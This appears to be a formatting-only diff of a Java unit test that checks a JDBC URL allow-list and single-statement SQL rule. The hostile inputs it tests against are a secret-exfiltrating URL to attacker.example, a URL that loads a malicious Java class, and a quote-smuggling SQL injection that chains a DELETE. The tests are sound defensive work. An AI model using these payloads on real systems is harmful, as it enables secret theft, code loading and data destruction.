@@ -15,7 +15,8 @@ import org.junit.jupiter.params.provider.MethodSource;
 
 /** The JDBC URL allow-list as the plan reader applies it: new plans only (HARDENED). */
 class PlanReaderJdbcTest {
-  private static final String PLAN = """
+  private static final String PLAN =
+      """
       version: 1
       name: demo
       connections:
@@ -41,41 +42,57 @@ class PlanReaderJdbcTest {
 
   @Test
   void aNewPlanWithAPasswordOrAClassInItsJdbcUrlIsRefusedAtItsPath() {
-    assertThat(urlProblems("jdbc:postgresql://db.internal/app?password=hunter2&socketFactory=x.Evil",
-        PlanReader.Rules.HARDENED)).containsExactly(
-        "connections.db.postgres: parameter \"password\" is not written in the URL: give the connection's password:"
-            + " ${env:NAME}",
-        "connections.db.postgres: parameter \"socketFactory\" names a Java class for the worker to load");
+    assertThat(
+            urlProblems(
+                "jdbc:postgresql://db.internal/app?password=hunter2&socketFactory=x.Evil",
+                PlanReader.Rules.HARDENED))
+        .containsExactly(
+            "connections.db.postgres: parameter \"password\" is not written in the URL: give the connection's password:"
+                + " ${env:NAME}",
+            "connections.db.postgres: parameter \"socketFactory\" names a Java class for the worker to load");
   }
 
   @Test
   void aNewPlanWithASecretReferenceInItsJdbcUrlIsRefused() {
-    assertThat(urlProblems("jdbc:postgresql://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/app",
-        PlanReader.Rules.HARDENED)).containsExactly(
-        "connections.db.postgres: a JDBC URL may not hold a ${...} reference: a secret never goes into a URL."
-            + " Write the URL literally and give credentials as user: and password: ${env:NAME}");
+    assertThat(
+            urlProblems(
+                "jdbc:postgresql://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/app",
+                PlanReader.Rules.HARDENED))
+        .containsExactly(
+            "connections.db.postgres: a JDBC URL may not hold a ${...} reference: a secret never goes into a URL."
+                + " Write the URL literally and give credentials as user: and password: ${env:NAME}");
   }
 
   @Test
   void aCutoverAlreadyRunningUnderOlderRulesStillReadsItsPlan() {
     // The worker refuses such a URL when it connects, whatever the rules: see SqlSource.
-    assertThat(urlProblems("jdbc:postgresql://db.internal/app?sslfactory=x.Evil", PlanReader.Rules.CURRENT)).isEmpty();
+    assertThat(
+            urlProblems(
+                "jdbc:postgresql://db.internal/app?sslfactory=x.Evil", PlanReader.Rules.CURRENT))
+        .isEmpty();
     assertThat(urlProblems("${env:DB_URL}", PlanReader.Rules.CURRENT)).isEmpty();
   }
 
   @Test
   void anAllowedUrlReadsCleanUnderTheNewestRules() {
-    assertThat(urlProblems("jdbc:postgresql://h1:5432,[::1]:5433/app?sslmode=verify-full&targetServerType=primary",
-        PlanReader.Rules.NEWEST)).isEmpty();
+    assertThat(
+            urlProblems(
+                "jdbc:postgresql://h1:5432,[::1]:5433/app?sslmode=verify-full&targetServerType=primary",
+                PlanReader.Rules.NEWEST))
+        .isEmpty();
   }
 
   @Test
   void sqlTheFirstReleaseMiscountedIsRefusedUnderTheNewestRulesOnly() {
-    String plan = PLAN.formatted("jdbc:postgresql://db.internal/app").replace("\"SELECT 99 AS value\"",
-        "\"SELECT 99 AS value, E'\\\\'' ; DELETE FROM t -- '\"");
-    // E'\'' is one quote: PostgreSQL and the newest rules see two statements, the first release one.
-    assertThat(problems(plan, PlanReader.Rules.HARDENED)).containsExactly(
-        "checks.rate.query: one statement only: a check's SQL may not chain statements with ';'");
+    String plan =
+        PLAN.formatted("jdbc:postgresql://db.internal/app")
+            .replace(
+                "\"SELECT 99 AS value\"", "\"SELECT 99 AS value, E'\\\\'' ; DELETE FROM t -- '\"");
+    // E'\'' is one quote: PostgreSQL and the newest rules see two statements, the first release
+    // one.
+    assertThat(problems(plan, PlanReader.Rules.HARDENED))
+        .containsExactly(
+            "checks.rate.query: one statement only: a check's SQL may not chain statements with ';'");
     // A cutover started before keeps reading its plan; the worker refuses the query when it runs.
     assertThat(problems(plan, PlanReader.Rules.CURRENT)).isEmpty();
   }
@@ -90,8 +107,10 @@ class PlanReaderJdbcTest {
   }
 
   static Stream<Path> plansWithDatabases() throws IOException {
-    try (Stream<Path> files = Stream.concat(Files.list(Path.of("..", "examples")),
-        Files.list(Path.of("..", "examples", "recipes")))) {
+    try (Stream<Path> files =
+        Stream.concat(
+            Files.list(Path.of("..", "examples")),
+            Files.list(Path.of("..", "examples", "recipes")))) {
       return files.filter(f -> f.toString().endsWith(".yaml")).sorted().toList().stream();
     }
   }
